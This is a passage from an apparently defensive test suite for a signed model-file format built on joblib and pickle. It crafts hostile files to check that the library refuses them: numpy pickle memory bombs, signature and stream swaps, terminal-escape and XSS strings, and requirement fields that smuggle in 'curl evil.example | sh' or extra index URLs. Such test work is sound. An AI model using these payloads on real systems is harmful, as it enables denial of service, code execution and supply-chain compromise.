    atk.control = Control("hang", "open(path, 'rb').read()\n", CONTROL_HANG)


def long_head(corpus: Corpus, atk: Attack, protocol: int, items: int) -> None:
    """A valid file whose head is long (a metadata list of ``items`` ints):
    read in time linear in its size (compared with the quarter-size file)."""
    model = corpus.small.copy()
    obj = assemble(
        model,
        envelope=lambda e: e["metadata"].update(rows=[1] * items),
        recompute=False,
    )
    atk.path = corpus.folder(atk.name) / "model.pkl"
    atk.path.write_bytes(pickle.dumps(obj, protocol=protocol))
    atk.entries = ("read_envelope",)
    atk.max_seconds = 100.0
    atk.hang = 120.0

    def readable(label: str, outcome: Outcome) -> list[str]:
        if outcome.error is not None:
            return [f"a valid file is refused: {outcome.error['message'][:200]}"]
        return []

    atk.check = readable


@attack("long-head-protocol-5", 5, "a 3.9 MB head (1.9 million list items)")
def _(corpus: Corpus, atk: Attack) -> None:
    long_head(corpus, atk, 5, 1_950_000)
    assert 3_800_000 < atk.path.stat().st_size < 4_100_000  # type: ignore[union-attr]


@attack("long-head-protocol-5-quarter", 5, "the same head, a quarter as long")
def _(corpus: Corpus, atk: Attack) -> None:
    long_head(corpus, atk, 5, 1_950_000 // 4)
    atk.entries = ("read_envelope",)


@attack("long-head-protocol-0", 5, "a 3.9 MB protocol 0 head")
def _(corpus: Corpus, atk: Attack) -> None:
    long_head(corpus, atk, 0, 975_000)
    assert 3_800_000 < atk.path.stat().st_size < 4_100_000  # type: ignore[union-attr]


@attack(
    "long-head-protocol-0-quarter", 5, "the same protocol 0 head, a quarter as long"
)
def _(corpus: Corpus, atk: Attack) -> None:
    long_head(corpus, atk, 0, 975_000 // 4)
    atk.entries = ("read_envelope",)


@attack("twenty-thousand-packages", 5, "20,000 package entries")
def _(corpus: Corpus, atk: Attack) -> None:
    packages = {f"pkg{i}": "1.0" for i in range(20_000)}

    def envelope(e: dict[str, Any]) -> None:
        e["packages"] = dict(packages)
        e["requirements"] = dict(packages)

    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        assemble(corpus.small, envelope=envelope),
    )
    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}
    atk.max_seconds = 15.0


@attack("scalar-without-data", 5, "numpy scalar(dtype) of a 1 GB void dtype, 3 times")
def _(corpus: Corpus, atk: Attack) -> None:
    from numpy._core.multiarray import scalar

    class Bomb:
        def __reduce__(self) -> Any:
            return (scalar, (np.dtype("V999999999"),))

    stream = pickle.dumps([Bomb() for _ in range(3)], protocol=5)
    inner_attack(corpus, atk, stream, control="memory", violation=True)


@attack("randomstate-ctor-calls-anything", 5, "RandomState ctor calling SeedSequence")
def _(corpus: Corpus, atk: Attack) -> None:
    from numpy.random._pickle import __randomstate_ctor as ctor
    from numpy.random.bit_generator import SeedSequence

    big = int.from_bytes(b"\x7f" * 200_000, "little")

    class Bomb:
        def __reduce__(self) -> Any:
            return (ctor, (big, SeedSequence))

    stream = pickle.dumps(Bomb(), protocol=5)
    # No control: how long numpy takes with the integer depends on its path
    # (a red team measured 32 s for 100 KB; plain unpickling here may refuse
    # it early). The refusal is that the constructor may call only numpy's
    # bit generators, and no integer is that long.
    inner_attack(corpus, atk, stream, control=None, violation=True)


@attack("randomstate-ctor-other-callable", 2, "RandomState ctor given another callable")
def _(corpus: Corpus, atk: Attack) -> None:
    from numpy.random._pickle import __randomstate_ctor as ctor

    class Call:
        def __reduce__(self) -> Any:
            return (ctor, ("MT19937", LogisticRegression))

    inner_attack(
        corpus, atk, pickle.dumps(Call(), protocol=5), control=None, violation=True
    )


@attack("object-subarray-broadcast", 5, "object dtype with a 1e8 sub-array, 4 items")
def _(corpus: Corpus, atk: Attack) -> None:
    from numpy._core.multiarray import _reconstruct

    dtype = np.dtype([("o", "O", (100_000_000,))])

    class Bomb:
        def __reduce__(self) -> Any:
            state = (1, (4,), dtype, False, [(7,)] * 4)
            return (_reconstruct, (np.ndarray, (0,), b"b"), state)

    stream = pickle.dumps(Bomb(), protocol=5)
    inner_attack(corpus, atk, stream, control="memory", violation=True)


@attack("probe-text-width-bomb", 5, "probe rows of 'a' declared as <U999999")
def _(corpus: Corpus, atk: Attack) -> None:
    rows = {
        "n_rows": 1000,
        "X": {
            "kind": "array",
            "array": {
                "kind": "ndarray",
                "dtype": "<U999999",
                "shape": [1000],
                "items": ["a"] * 1000,
            },
        },
    }
    # Another Python makes the replay run; the rows are decoded then.
    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        assemble(
            corpus.small, envelope=lambda e: e.update(python="3.11.0", probe=rows)
        ),
    )


@attack("deep-tuple-in-fitted-state", 5, "a tuple 400,000 deep in categories_")
def _(corpus: Corpus, atk: Attack) -> None:
    from sklearn.preprocessing import OneHotEncoder

    X = np.array([["a"], ["b"], ["a"]], dtype=object)
    model = ve.VersionedEstimator(OneHotEncoder(handle_unknown="ignore")).fit(X)
    base = parts_of(model)
    inner = model.estimator_
    inner.categories_ = [np.array(["PLACEHOLDER", "b"], dtype=object)]
    ops = list(pickletools.genops(pickle.dumps(inner, protocol=5)))
    stream = pickle.dumps(inner, protocol=5)
    out = bytearray()
    for k, (op, arg, pos) in enumerate(ops):
        end = ops[k + 1][2] if k + 1 < len(ops) else len(stream)
        if op.name == "FRAME":
            continue
        out += (
            b")" + TUPLE1 * 400_000
            if op.name == "SHORT_BINUNICODE" and arg == "PLACEHOLDER"
            else stream[pos:end]
        )
    inner_attack(
        corpus,
        atk,
        bytes(out),
        base=base,
        envelope=lambda e: e.update(python="3.11.0"),
        control="crash",
        control_code=STREAM_CONTROL + "hash(obj.categories_[0][0])\n",
    )


# -- 6. integrity ----------------------------------------------------------------------


def big_stream(corpus: Corpus) -> tuple[Parts, bytes]:
    """A KNN over 9 MB of data, and its inner stream with the data in-band."""
    if "_big" not in corpus.__dict__:
        rng = np.random.default_rng(0)
        X = rng.random((140_000, 8))
        knn = KNeighborsClassifier(algorithm="brute").fit(
            X, rng.integers(0, 2, 140_000)
        )
        base = parts_of(ve.VersionedEstimator.wrap(knn, probe=X[:5]))
        corpus.__dict__["_big"] = (base, pickle.dumps(knn, protocol=5))
    return corpus.__dict__["_big"]  # type: ignore[no-any-return]


def block_digests(stream: bytes) -> bytes:
    block = 8 * MIB
    return b"".join(
        hashlib.sha256(stream[i : i + block]).digest()
        for i in range(0, len(stream), block)
    )


def format1_swap(corpus: Corpus, atk: Attack, *, key: str | None) -> None:
    base, stream = big_stream(corpus)
    assert len(stream) > 8 * MIB
    head = format1(base, stream=stream, key=key)
    swapped = block_digests(stream)
    # The swap is real: format 1's digest of the 64 bytes is the stream's.
    assert hashlib.sha256(swapped).hexdigest() == head["payload"]["stream"]["digest"]
    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        Reduced((base.rebuild, (head, swapped, []))),
    )
    atk.raises = {"load": {"IntegrityError"}}
    atk.codes = {"cli verify": {1}}
    if key:
        atk.load_args = {"key": KEY}
        atk.extra = [("load (no key)", "load", {})]


@attack(
    "format1-signed-stream-swap",
    6,
    "a signed format 1 stream replaced by its block digests",
)
def _(corpus: Corpus, atk: Attack) -> None:
    format1_swap(corpus, atk, key=KEY)


@attack(
    "format1-stream-swap",
    6,
    "an unsigned format 1 stream replaced by its block digests",
)
def _(corpus: Corpus, atk: Attack) -> None:
    format1_swap(corpus, atk, key=None)


@attack("format1-signed-intact", 0, "the same signed format 1 file, intact (must load)")
def _(corpus: Corpus, atk: Attack) -> None:
    base, stream = big_stream(corpus)
    head = format1(base, stream=stream, key=KEY)
    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        Reduced((base.rebuild, (head, stream, []))),
    )
    atk.load_args = {"key": KEY}
    atk.entries = ("read_envelope", "audit", "load", "cli verify")
    atk.check = must_load


@attack(
    "format2-signed-stream-swap",
    6,
    "a signed format 2 stream replaced by its block digests",
)
def _(corpus: Corpus, atk: Attack) -> None:
    base, stream = big_stream(corpus)
    signed = assemble(base, stream=stream, buffers=[], key=KEY)
    head, _, _, trailer = signed.reduced[1]
    swapped = block_digests(stream)
    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        Reduced((base.rebuild, (head, swapped, [], trailer))),
    )
    atk.load_args = {"key": KEY}
    atk.raises = {"load": {"IntegrityError", "EnvelopeError"}}
    atk.codes = {"cli verify": {1, 2}}


@attack(
    "format2-signed-buffer-swap",
    6,
    "a signed 9 MB buffer replaced by its block digests",
)
def _(corpus: Corpus, atk: Attack) -> None:
    base, _ = big_stream(corpus)
    big = max(base.buffers, key=lambda b: b.nbytes)
    assert big.nbytes > 8 * MIB
    signed = assemble(base, key=KEY)
    head, stream, buffers, trailer = signed.reduced[1]
    head = copy.deepcopy(head)
    index = next(i for i, b in enumerate(buffers) if b is big)
    swapped = np.frombuffer(block_digests(big.tobytes()), np.uint8)
    head["payload"]["buffers"][index] = {"nbytes": swapped.nbytes}
    new_buffers = list(buffers)
    new_buffers[index] = swapped
    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        Reduced((base.rebuild, (head, stream, new_buffers, trailer))),
    )
    atk.load_args = {"key": KEY}
    atk.raises = {"load": {"IntegrityError", "EnvelopeError"}}
    atk.codes = {"cli verify": {1, 2}}


def lazy_buffer(corpus: Corpus, atk: Attack, buffer: Any) -> None:
    """A file whose outer buffers list holds something other than a raw
    uint8 array: the reader refuses it; plain joblib.load seals it, and the
    first use must fail with this package's error."""
    outer_attack(corpus, atk, buffers=[buffer])
    atk.extra = [
        (
            "joblib.load + first use",
            "exec",
            {
                "code": "import joblib\nobj = joblib.load(path)\n"
                "obj.predict([[0.0, 0.0, 0.0, 0.0]])\n"
            },
        )
    ]
    atk.raises["joblib.load + first use"] = {"IntegrityError", "EnvelopeError"}


@attack(
    "buffers-swapped-through-the-memo", 6, "two buffers of one size, listed swapped"
)
def _(corpus: Corpus, atk: Attack) -> None:
    # Each buffer's bytes are checked against its checksum as they are read,
    # as the one built in that place; a file that set the first aside in the
    # memo and listed it after the second handed the model the other's bytes:
    # a scaler's mean_ and var_ swapped, signature and checksums passed
    # (round 161).
    from sklearn.preprocessing import StandardScaler

    X = np.random.default_rng(0).normal(5.0, 3.0, size=(20, 10_000))
    base = parts_of(ve.VersionedEstimator.wrap(StandardScaler().fit(X), probe=X[:2]))
    first, second = (dumps_fast(np.asarray(b))[2:-1] for b in base.buffers[:2])
    assert memoryview(base.buffers[0]).nbytes == memoryview(base.buffers[1]).nbytes
    data = dumps_fast(
        assemble(base, buffers=[Hole(1), Hole(2), *base.buffers[2:]], recompute=False)
    )
    swap = first + pickle.BINPUT + b"\x00" + POP + second
    data = splice(data, {1: swap, 2: pickle.BINGET + b"\x00"})
    atk.path = corpus.folder(atk.name) / "model.pkl"
    atk.path.write_bytes(data)
    atk.entries = ("load", "audit", "cli verify")
    atk.raises = {"load": {"EnvelopeError"}, "audit": {"EnvelopeError"}}
    atk.codes = {"cli verify": {2}}


@attack("head-of-short-texts", 5, "a head of 17.8 MB in texts of 250 characters")
def _(corpus: Corpus, atk: Attack) -> None:
    # The head's bound was checked where a value's length is read, and a
    # short text has none: 200,000 texts of 250 characters made a 51 MB
    # head, printed whole by inspect (round 161).
    item = text("t" * 250)
    texts = EMPTY_LIST + (MARK + item * 1_000 + APPENDS) * 70
    _in_the_envelope(corpus, atk, texts)


@attack("buffer-strided", 6, "a strided uint8 buffer")
def _(corpus: Corpus, atk: Attack) -> None:
    lazy_buffer(
        corpus,
        atk,
        Call(np.lib.stride_tricks.as_strided, np.zeros(40, np.uint8), (20,), (2,)),
    )


@attack("buffer-float64", 6, "a float64 buffer")
def _(corpus: Corpus, atk: Attack) -> None:
    lazy_buffer(corpus, atk, np.zeros(8))


@attack("buffer-text", 6, "a str where a buffer belongs")
def _(corpus: Corpus, atk: Attack) -> None:
    lazy_buffer(corpus, atk, "not a buffer")


@attack("buffer-2d", 6, "a 2-D uint8 buffer")
def _(corpus: Corpus, atk: Attack) -> None:
    lazy_buffer(corpus, atk, np.zeros((4, 4), np.uint8))


@attack(
    "verify-counts-from-stream", 6, "an envelope listing 500 globals it does not use"
)
def _(corpus: Corpus, atk: Attack) -> None:
    fake = [f"fake.module{i}.Name" for i in range(500)]
    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        assemble(corpus.small, envelope=lambda e: e.update(globals=fake)),
    )
    atk.entries = ("audit", "load", "cli verify")
    names = len(ve.audit(atk.path).globals)

    def counted(label: str, outcome: Outcome) -> list[str]:
        if label != "cli verify" or outcome.status != "done" or not outcome.value:
            return []
        stdout = outcome.value["stdout"]
        if f"{names} globals" not in stdout:
            shown = [line.strip() for line in stdout.splitlines() if "globals" in line]
            return [f"verify does not print the {names} globals of the stream: {shown}"]
        return []

    atk.check = counted


@attack("digest-byte-flipped", 6, "one byte of the model's arrays changed")
def _(corpus: Corpus, atk: Attack) -> None:
    data = pickle.dumps(assemble(corpus.small), protocol=5)
    coef = corpus.small_model.estimator_.intercept_.tobytes()
    at = data.find(coef)
    assert at > 0
    flipped = bytearray(data)
    flipped[at + 3] ^= 0x10
    atk.path = corpus.folder(atk.name) / "model.pkl"
    atk.path.write_bytes(bytes(flipped))
    atk.raises = {"load": {"IntegrityError"}}
    atk.codes = {"cli verify": {1}}


def signed_variant(
    corpus: Corpus, atk: Attack, obj: Any, *, raises: set[str] | None = None
) -> None:
    atk.path = write(corpus.folder(atk.name) / "model.joblib", obj)
    atk.load_args = {"key": KEY}
    atk.raises = {"load": raises or {"IntegrityError"}}
    atk.codes = {"cli verify --key-env": {1}}
    atk.entries = (*ENTRIES, "cli verify --key-env")


@attack("signed-intact", 0, "a signed file, intact (must load with the key)")
def _(corpus: Corpus, atk: Attack) -> None:
    signed_variant(corpus, atk, assemble(corpus.small, key=KEY))
    atk.raises = {}
    atk.codes = {"cli verify --key-env": {0}}
    atk.check = must_load


@attack("signed-envelope-changed", 6, "metadata changed after signing")
def _(corpus: Corpus, atk: Attack) -> None:
    signed = assemble(corpus.small, key=KEY)
    signed.reduced[1][0]["metadata"] = {"owner": "mallory"}
    signed_variant(corpus, atk, signed)


@attack("signed-trailer-outputs-changed", 6, "probe outputs changed after signing")
def _(corpus: Corpus, atk: Attack) -> None:
    signed = assemble(corpus.small, key=KEY)
    signed.reduced[1][3].data["probe"] = {"outputs": {}}
    signed_variant(corpus, atk, signed)


@attack("signed-signature-stripped", 6, "the signature removed")
def _(corpus: Corpus, atk: Attack) -> None:
    signed = assemble(corpus.small, key=KEY)
    del signed.reduced[1][3].data["signature"]
    signed_variant(corpus, atk, signed)


@attack("signed-head-signature-added", 6, "a signature with a note added to the head")
def _(corpus: Corpus, atk: Attack) -> None:
    signed = assemble(corpus.small, key=KEY)
    signed.reduced[1][0]["signature"] = {
        "algorithm": "hmac-sha256",
        "value": "0" * 64,
        "note": "verified by the security team",
    }
    signed_variant(corpus, atk, signed, raises={"EnvelopeError"})
    atk.codes = {"cli verify --key-env": {2}}


@attack("signed-signature-note-added", 6, "a field added to the trailer's signature")
def _(corpus: Corpus, atk: Attack) -> None:
    signed = assemble(corpus.small, key=KEY)
    signed.reduced[1][3].data["signature"]["note"] = "verified by the security team"
    signed_variant(corpus, atk, signed, raises={"EnvelopeError"})
    atk.codes = {"cli verify --key-env": {2}}


@attack("signed-buffer-changed-fast-verify", 6, "signed, coef_ changed, verify='fast'")
def _(corpus: Corpus, atk: Attack) -> None:
    rng = np.random.RandomState(0)
    X = rng.randn(50, 20_000)
    model = ve.VersionedEstimator(LinearRegression()).fit(X, X[:, 0])
    path = corpus.folder(atk.name) / "model.joblib"
    ve.save(model, path, key=KEY)
    data = bytearray(path.read_bytes())
    at = bytes(data).find(model.estimator_.coef_.tobytes()[:64])
    assert at > 0
    forged = np.full(20_000, 1000.0).tobytes()
    data[at : at + len(forged)] = forged
    path.write_bytes(bytes(data))
    atk.path = path
    # A key makes every byte count, whatever the verify mode asks.
    atk.load_args = {"key": KEY, "verify": "fast"}
    atk.raises = {"load": {"IntegrityError"}}
    atk.codes = {"cli verify --key-env": {1}}
    atk.entries = (*ENTRIES, "cli verify --key-env")


@attack("signed-with-another-key", 6, "signed with another key")
def _(corpus: Corpus, atk: Attack) -> None:
    signed_variant(corpus, atk, assemble(corpus.small, key="another key"))


@attack("signed-downgraded-to-crc32", 6, "re-written unsigned, CRC-32 recomputed")
def _(corpus: Corpus, atk: Attack) -> None:
    signed_variant(corpus, atk, assemble(corpus.small))


@attack("signed-payload-swapped", 6, "another model's stream, checksums recomputed")
def _(corpus: Corpus, atk: Attack) -> None:
    other = pickle.dumps(Ridge().fit(*corpus.iris), protocol=5)
    signed = assemble(corpus.small, key=KEY)
    head, _, _, trailer = signed.reduced[1]
    record = start_checksums("sha256", other, []).result()
    trailer.data["checksums"] = record
    head = copy.deepcopy(head)
    head["payload"]["stream"] = {"nbytes": len(other)}
    head["payload"]["buffers"] = []
    head["payload"]["nbytes"] = len(other)
    signed_variant(
        corpus, atk, Reduced((corpus.small.rebuild, (head, other, [], trailer)))
    )


# -- 7. output -------------------------------------------------------------------------

INJECTED = "INJECTED"


def field_attack(
    corpus: Corpus, atk: Attack, edit: Callable[[dict[str, Any]], Any]
) -> None:
    """A file whose envelope field is wrong: EnvelopeError everywhere, exit 2."""
    atk.path = write(
        corpus.folder(atk.name) / "model.joblib", assemble(corpus.small, envelope=edit)
    )
    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}


@attack("requirements-version-index-url", 7, "a version holding '\\n--index-url ...'")
def _(corpus: Corpus, atk: Attack) -> None:
    bad = "2.4.6\n--index-url https://evil.example/simple"
    field_attack(corpus, atk, lambda e: e["packages"].update(numpy=bad))


@attack("requirements-name-editable", 7, "a package name holding '\\n-e git+...'")
def _(corpus: Corpus, atk: Attack) -> None:
    bad = "numpy\n-e git+https://evil.example/x.git#egg=x"
    field_attack(corpus, atk, lambda e: e["packages"].update({bad: "1.0"}))


@attack(
    "requirements-mapping-injection", 7, "'requirements' holding '\\n--extra-index-url'"
)
def _(corpus: Corpus, atk: Attack) -> None:
    bad = "1.0\n--extra-index-url https://evil.example"
    field_attack(corpus, atk, lambda e: e["requirements"].update(numpy=bad))


@attack("check-fix-line-injection", 7, "a saved version that breaks check's fix line")
def _(corpus: Corpus, atk: Attack) -> None:
    bad = "0.1; curl evil.example | sh"
    field_attack(corpus, atk, lambda e: e["packages"].update({"scikit-learn": bad}))


@attack("packages-two-spellings", 7, "one distribution under two spellings")
def _(corpus: Corpus, atk: Attack) -> None:
    # check and requirements would show or pin both, one of them wrong.
    field_attack(corpus, atk, lambda e: e["packages"].update({"Scikit_Learn": "0.1"}))


@attack(
    "modules-distribution-injection", 7, "'modules' naming '-e git+...' as distribution"
)
def _(corpus: Corpus, atk: Attack) -> None:
    bad = "-e git+https://evil.example"
    field_attack(corpus, atk, lambda e: e["modules"].update(sklearn=bad))


def signed_line_check(label: str, outcome: Outcome) -> list[str]:
    """``inspect`` must show exactly one 'signed' line, saying no."""
    if label != "cli inspect" or outcome.status != "done" or not outcome.value:
        return []
    lines = [
        line.strip()
        for line in outcome.value["stdout"].splitlines()
        if line.strip().startswith("signed")
    ]
    if len(lines) != 1 or lines[0].split()[1:2] != ["no"]:
        return [f"inspect of an unsigned file shows the lines {lines}"]
    return []


@attack("metadata-key-terminal-escape", 7, "escape sequences in a metadata key")
def _(corpus: Corpus, atk: Attack) -> None:
    keys = {
        "\x1b[1A\x1b[2K  signed      yes (hmac-sha256)": 1,
        "\r  signed      yes (hmac-sha256)": 2,
        "\x1b]0;owned\x07title": 3,
    }
    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        assemble(corpus.small, envelope=lambda e: e["metadata"].update(keys)),
    )
    atk.entries = (*ENTRIES, "cli-process inspect")
    atk.check = signed_line_check


def output_in_proportion(atk: Attack) -> Callable[[str, Outcome], list[str]]:
    """A command prints at most a few times the file it reads."""

    def check(label: str, outcome: Outcome) -> list[str]:
        value = outcome.value
        if not label.startswith("cli") or not isinstance(value, dict):
            return []
        size = atk.path.stat().st_size  # type: ignore[union-attr]
        printed = len(value["stdout"]) + len(value["stderr"])
        if printed > 4 * size + 65536:
            return [f"printed {printed} characters for a file of {size} bytes"]
        return []

    return check


@attack("table-padding-bomb", 7, "one key of 20,000 characters over 20,000 rows")
def _(corpus: Corpus, atk: Attack) -> None:
    # Padding every row of a table to its widest key once printed 2.8 GB.
    def envelope(e: dict[str, Any]) -> None:
        e["metadata"] = {"X" * 20_000: None, **{str(i): None for i in range(20_000)}}
        e["params"]["C" * 20_000] = 1
        e["params"].update({f"p{i}": i for i in range(5_000)})

    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        assemble(corpus.small, envelope=envelope),
    )
    assert atk.path.stat().st_size < 400_000
    atk.entries = HEAD
    atk.max_peak = 256 * MIB
    atk.check = output_in_proportion(atk)


@attack("nested-table-padding", 7, "300 small tables in cells, each padded again")
def _(corpus: Corpus, atk: Attack) -> None:
    # A list of lists prints as a table in its cell, and the table around it
    # pads every line of it: each within its own cap, 3,000 of them printed
    # 207 MB of spaces from 7 MB (round 97).
    wide, empty, last = "w" * 60, "", "x"

    def envelope(e: dict[str, Any]) -> None:
        e["metadata"] = {
            ("k" * 60 if j == 0 else f"k{j}"): [[wide] * 29 + [last]]
            + [[empty] * 29 + [last] for _ in range(36)]
            for j in range(300)
        }

    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        assemble(corpus.small, envelope=envelope),
    )
    assert atk.path.stat().st_size < 800_000
    atk.entries = HEAD
    atk.check = output_in_proportion(atk)


@attack("diff-count-bomb", 7, "a million list items that differ between two files")
def _(corpus: Corpus, atk: Attack) -> None:
    # One entry a differing item (its path, its values) once asked 3 GB of
    # diff for two 7.8 MB files.
    folder = corpus.folder(atk.name)
    for name, value in (("a", 0), ("b", 1)):
        rows = [value] * 1_000_000
        atk.path = write(
            folder / f"{name}.joblib",
            assemble(
                corpus.small, envelope=lambda e, r=rows: e["metadata"].update(k=r)
            ),
        )
    first = str(folder / "a.joblib")
    atk.entries = ()
    atk.extra = [
        ("cli diff", "cli", {"argv": ["diff", first, str(atk.path)]}),
        ("cli diff --json", "cli", {"argv": ["diff", "--json", first, str(atk.path)]}),
    ]
    atk.codes = {"cli diff": {1}, "cli diff --json": {1}}
    atk.max_peak = 400 * MIB
    atk.max_seconds = 60.0
    atk.hang = 90.0

    def capped(label: str, outcome: Outcome) -> list[str]:
        value = outcome.value
        if not isinstance(value, dict) or "stdout" not in value:
            return []
        if label.endswith("--json"):
            data = json.loads(value["stdout"])
            listed = len(data["differences"])
            if data.get("complete", True) or listed != 1000:
                return [f"lists {listed} differences of more"]
            return []
        last = value["stdout"].splitlines()[-1]
        return [] if last == "more than 1000 differences" else [f"ends {last!r}"]

    atk.check = capped


@attack("json-deep-values", 7, "200,000 values 96 levels deep, printed as JSON")
def _(corpus: Corpus, atk: Attack) -> None:
    # Indented a level each, a million values 96 deep printed 820 MB of
    # JSON from a 1 MB file (round 91).
    value: Any = [None] * 200_000
    for _ in range(95):
        value = [value]
    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        assemble(corpus.small, envelope=lambda e: e["metadata"].update(x=value)),
    )
    path = str(atk.path)
    atk.entries = ("read_envelope", "cli inspect")
    atk.extra = [
        ("cli inspect --json", "cli", {"argv": ["inspect", "--json", path]}),
        (
            "cli diff --json",
            "cli",
            {"argv": ["diff", "--json", path, str(corpus.benign)]},
        ),
    ]
    atk.codes = {"cli inspect --json": {0}, "cli diff --json": {1}}
    # None is a byte in the file and "null, " six in JSON, "None, " in text.
    size = atk.path.stat().st_size

    def in_proportion(label: str, outcome: Outcome) -> list[str]:
        value = outcome.value
        if not label.startswith("cli") or not isinstance(value, dict):
            return []
        printed = len(value["stdout"])
        if printed > 8 * size + 65536:
            return [f"printed {printed} characters for a file of {size} bytes"]
        return []

    atk.check = in_proportion


@attack("head-list-shared-four-times", 5, "one long list the memo repeats 4 times")
def _(corpus: Corpus, atk: Attack) -> None:
    # Walked twice what the file paid for it at most: four references to a
    # list of a million values (2 bytes each) printed 4 million (round 91).
    rows = [None] * 300_000
    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        assemble(
            corpus.small,
            envelope=lambda e: e["metadata"].update(x=[rows, rows, rows, rows]),
        ),
    )
    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}


def unprinted_attack(
    corpus: Corpus, atk: Attack, envelope: Callable[[dict[str, Any]], Any]
) -> None:
    """A head read as it is, that ``inspect`` and ``diff`` (text and JSON)
    refuse to print: what it refers to again would print out of proportion."""
    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        assemble(corpus.small, envelope=envelope),
    )
    argv = ["inspect", "--json", str(atk.path)]
    atk.entries = ("read_envelope", "cli inspect", "cli diff")
    atk.extra = [("cli inspect --json", "cli", {"argv": argv})]
    atk.codes = {"cli inspect": {2}, "cli diff": {2}, "cli inspect --json": {2}}


@attack("printed-repeats", 7, "one escaped string referred to 300,000 times")
def _(corpus: Corpus, atk: Attack) -> None:
    # Two bytes a reference, 164 characters printed each: 164 MB of text
    # from a 1 MB file (round 94).
    escaped = "\U000e0001" * 16
    unprinted_attack(corpus, atk, lambda e: e["metadata"].update(m=[escaped] * 300_000))


@attack("shared-long-key", 7, "one key of a million characters under 3,000 dicts")
def _(corpus: Corpus, atk: Attack) -> None:
    # The memo writes the key once; every dict names it again for a few
    # bytes: 3,965 bytes compressed took inspect to 2.7 GB (round 95).
    key = "k" * 1_000_000
    atk.path = corpus.folder(atk.name) / "model.joblib"
    joblib.dump(
        assemble(
            corpus.small,
            envelope=lambda e: e["metadata"].update(
                x=[0] + [{key: None} for _ in range(3_000)]
            ),
        ),
        atk.path,
        compress=("zlib", 9),
    )
    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}


@attack("head-field-of-nul-characters", 5, "a class name of 15 MiB of NULs, quoted")
def _(corpus: Corpus, atk: Attack) -> None:
    # Refused, but every reader escaped the whole field one character at a
    # time before cutting it to 60 for its message: 4.5 KB of lzma took
    # 6.8 s and 1.2 GB (round 107).
    atk.path = corpus.folder(atk.name) / "model.joblib"
    joblib.dump(
        assemble(
            corpus.small,
            envelope=lambda e: e.update(estimator_class="\x00" * (15 << 20)),
        ),
        atk.path,
        compress=("lzma", 6),
    )
    atk.raises = {e: {"EnvelopeError"} for e in ("read_envelope", "audit", "load")}
    atk.codes = {e: {2} for e in ENTRIES if e.startswith("cli")}
    atk.max_peak = 256 * MIB


@attack("shared-key-printed", 7, "one key of 40 characters under 100,000 dicts")
def _(corpus: Corpus, atk: Attack) -> None:
    # Within what a read pays for (a key up to 64 characters weighs at every
    # dict), but printed at each: 4.4 MB of text from 0.6 MB.
    key = "k" * 40
    unprinted_attack(
        corpus,
        atk,
        lambda e: e["metadata"].update(x=[0] + [{key: None} for _ in range(100_000)]),
    )
    atk.entries = (*atk.entries, "load")


@attack(
    "text-field-newline-injection", 7, "newlines in keys and values printed as text"
)
def _(corpus: Corpus, atk: Attack) -> None:
    line = f"\n  signed      yes (hmac-sha256)\n{INJECTED}"

    def envelope(e: dict[str, Any]) -> None:
        e["metadata"][f"owner{line}"] = "x"
        e["params"][f"C{line}"] = 1
        e["platform"]["system"] = f"Linux{line}"
        e["schema"]["feature_names_in"] = [f"a{line}", "b", "c", "d"]
        e["schema"]["dtypes"] = ["float64"] * 4
        e["evaluation"] = {"best_params": {f"C{line}": 1}, "scoring": f"x{line}"}

    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        assemble(corpus.small, envelope=envelope),
    )
    atk.entries = (*ENTRIES, "cli-process inspect", "cli-process diff")
    atk.check = signed_line_check


@attack("audit-global-name-escapes", 7, "escapes and newlines in a global's name")
def _(corpus: Corpus, atk: Attack) -> None:
    names = (
        "system\x1b[1A\x1b[2K",
        f"system\n  allowed    sklearn.linear_model.Ridge\n{INJECTED}",
        "system\r  allowed    sklearn.linear_model.Ridge",
    )
    items = b"".join(glob("posix", name) for name in names)
    stream = PROTO5 + EMPTY_LIST + MARK + items + APPENDS + STOP
    inner_attack(corpus, atk, stream, control=None)
    atk.entries = (*ENTRIES, "cli-process audit")

    def dangerous_lines(label: str, outcome: Outcome) -> list[str]:
        if not label.endswith("audit") or outcome.status != "done" or not outcome.value:
            return []
        if label == "audit":
            report = outcome.value
            return (
                []
                if len(report["dangerous"]) == 3
                else [f"audit flags {report['dangerous']}"]
            )
        lines = outcome.value["stdout"].splitlines()
        marked = [line for line in lines if "DANGEROUS" in line]
        if len(marked) < 3:
            return [f"audit prints {len(marked)} DANGEROUS lines for 3 dangerous names"]
        return []

    atk.check = dangerous_lines


@attack("html-card-escaping", 7, "HTML in metadata and parameter keys")
def _(corpus: Corpus, atk: Attack) -> None:
    def envelope(e: dict[str, Any]) -> None:
        e["metadata"]["<script>alert(1)</script>"] = "<img src=x onerror=alert(2)>"
        e["params"]["<b onmouseover=alert(3)>C"] = "<script>alert(4)</script>"

    atk.path = write(
        corpus.folder(atk.name) / "model.joblib",
        assemble(corpus.small, envelope=envelope),
    )
    atk.entries = ("read_envelope", "html", "load")

    def escaped(label: str, outcome: Outcome) -> list[str]:
        if label != "html" or not outcome.value:
            return []
        card = outcome.value["html"]
        bad = [tag for tag in ("<script", "<img", "<b ") if tag in card]
        return [f"the card holds raw {bad}"] if bad else []

    atk.check = escaped


@attack("evaluation-refit-newline", 7, "a newline in a search's refit metric")
def _(corpus: Corpus, atk: Attack) -> None:
